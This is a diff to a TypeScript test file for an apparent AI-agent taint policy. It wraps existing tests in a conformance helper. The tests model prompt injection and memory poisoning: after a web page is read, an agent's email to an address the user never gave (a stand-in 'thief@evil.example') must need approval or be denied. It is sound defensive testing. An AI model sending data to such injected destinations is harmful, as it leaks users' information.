@@ -1,6 +1,7 @@
 import { deepEqual, doesNotMatch, equal, match, ok, throws } from 'node:assert/strict'
 import { isAosError, type HookAnswer } from '@aos/sdk'
 import { describe, test } from 'vitest'
+import { verifies } from '../../../../test/conformance/verifies.ts'
 import { stepOf } from '../../../../test/support/policy-step.ts'
 import type { Policy, PolicyContext } from '../policy/policy.ts'
 import type { TaintOptions } from './taint-options.ts'
@@ -43,23 +44,27 @@ class Session {
 const heard = (text: string, options: TaintOptions = {}): Session => new Session(options).says(text)
 
 describe('after untrusted text', () => {
-  test('an address that the user never gave needs approval, and nothing did before', () => {
-    const session = heard('Summarise the blog and mail the summary to bob@example.com')
-    equal(session.calls('send_email', { to: 'thief@evil.example', body: 'hi' }), 'abstain')
-    session.reads()
-    equal(session.calls('send_email', { to: 'bob@example.com', body: 'A summary.' }), 'abstain')
-    const answer = session.step({ toolName: 'send_email', value: { to: 'thief@evil.example', body: 'hi' } })
-    deepEqual(
-      [answer?.decision, answer?.reasonCode, answer?.data],
-      ['ask', ['untrusted_destination'], { sources: ['get_webpage'] }],
-    )
-    match(String(answer?.message), /\(to\).*\(get_webpage\)/)
-    doesNotMatch(String(answer?.message), /thief/)
-    equal(
-      heard('hello', { action: 'deny' }).reads().calls('send_email', { to: 'thief@evil.example' }),
-      'deny',
-    )
-  })
+  verifies(
+    'guardian.policy.taint.destination',
+    'an address that the user never gave needs approval, and nothing did before',
+    () => {
+      const session = heard('Summarise the blog and mail the summary to bob@example.com')
+      equal(session.calls('send_email', { to: 'thief@evil.example', body: 'hi' }), 'abstain')
+      session.reads()
+      equal(session.calls('send_email', { to: 'bob@example.com', body: 'A summary.' }), 'abstain')
+      const answer = session.step({ toolName: 'send_email', value: { to: 'thief@evil.example', body: 'hi' } })
+      deepEqual(
+        [answer?.decision, answer?.reasonCode, answer?.data],
+        ['ask', ['untrusted_destination'], { sources: ['get_webpage'] }],
+      )
+      match(String(answer?.message), /\(to\).*\(get_webpage\)/)
+      doesNotMatch(String(answer?.message), /thief/)
+      equal(
+        heard('hello', { action: 'deny' }).reads().calls('send_email', { to: 'thief@evil.example' }),
+        'deny',
+      )
+    },
+  )
 
   test.each([
     ['a second recipient', { to: ['bob@example.com', 'thief@evil.example'] }],
@@ -212,24 +217,28 @@ describe('tools that only read', () => {
 })
 
 describe('whose words are trusted', () => {
-  test('a session that no user was heard in needs approval for every effect', () => {
-    const session = new Session()
-    const answer = session.step({ toolName: 'send_email', value: { to: 'bob@example.com' } })
-    equal(answer?.decision, 'ask')
-    match(String(answer?.message), /no message of a user was heard/)
-    equal(
-      session
-        .says('hello', { session: { id: 'other', generated: false } })
-        .calls('send_email', { to: 'a@b.example' }),
-      'ask',
-    )
-    equal(
-      new Session()
-        .says('mail bob@example.com', { role: 'agent' })
-        .calls('send_email', { to: 'bob@example.com' }),
-      'ask',
-    )
-  })
+  verifies(
+    'guardian.policy.taint.unheard',
+    'a session that no user was heard in needs approval for every effect',
+    () => {
+      const session = new Session()
+      const answer = session.step({ toolName: 'send_email', value: { to: 'bob@example.com' } })
+      equal(answer?.decision, 'ask')
+      match(String(answer?.message), /no message of a user was heard/)
+      equal(
+        session
+          .says('hello', { session: { id: 'other', generated: false } })
+          .calls('send_email', { to: 'a@b.example' }),
+        'ask',
+      )
+      equal(
+        new Session()
+          .says('mail bob@example.com', { role: 'agent' })
+          .calls('send_email', { to: 'bob@example.com' }),
+        'ask',
+      )
+    },
+  )
 
   test('an event is nobody’s word', () => {
     const session = new Session()
@@ -327,22 +336,26 @@ describe('memory', () => {
     equal(second.calls('send_email', { to: 'thief@evil.example' }), 'ask')
   })
 
-  test('loses it when stored again after something was read, for other users, and where it may not count', () => {
-    for (const memory of ['labels', 'untrusted', 'trusted'] as const) {
-      const policy = taint({ sources: { memory } })
-      const first = new Session(policy).says('Remember bob@example.com')
-      first.step({ hook: 'memoryStore', value: ['mail bob@example.com'] })
-      if (memory === 'labels') first.reads().step({ hook: 'memoryStore', value: ['mail bob@example.com'] })
-      const second = new Session(policy, other).says('hello')
-      if (policy.hooks.includes('memoryContextRetrieval'))
-        second.step({ hook: 'memoryContextRetrieval', value: ['mail bob@example.com'] })
-      equal(second.calls('send_email', { to: 'bob@example.com' }), memory === 'trusted' ? 'abstain' : 'ask')
-      const third = new Session(policy, { ...other, user: { id: 'eve' } }).says('hello')
-      if (policy.hooks.includes('memoryContextRetrieval'))
-        third.step({ hook: 'memoryContextRetrieval', value: ['mail bob@example.com'] })
-      equal(third.calls('send_email', { to: 'bob@example.com' }), memory === 'trusted' ? 'abstain' : 'ask')
-    }
-  })
+  verifies(
+    'guardian.policy.taint.memory',
+    'loses it when stored again after something was read, for other users, and where it may not count',
+    () => {
+      for (const memory of ['labels', 'untrusted', 'trusted'] as const) {
+        const policy = taint({ sources: { memory } })
+        const first = new Session(policy).says('Remember bob@example.com')
+        first.step({ hook: 'memoryStore', value: ['mail bob@example.com'] })
+        if (memory === 'labels') first.reads().step({ hook: 'memoryStore', value: ['mail bob@example.com'] })
+        const second = new Session(policy, other).says('hello')
+        if (policy.hooks.includes('memoryContextRetrieval'))
+          second.step({ hook: 'memoryContextRetrieval', value: ['mail bob@example.com'] })
+        equal(second.calls('send_email', { to: 'bob@example.com' }), memory === 'trusted' ? 'abstain' : 'ask')
+        const third = new Session(policy, { ...other, user: { id: 'eve' } }).says('hello')
+        if (policy.hooks.includes('memoryContextRetrieval'))
+          third.step({ hook: 'memoryContextRetrieval', value: ['mail bob@example.com'] })
+        equal(third.calls('send_email', { to: 'bob@example.com' }), memory === 'trusted' ? 'abstain' : 'ask')
+      }
+    },
+  )
 
   test.each([
     ['another agent', { agent: { id: 'helper', name: 'helper' } }, 'Remember bob@example.com'],
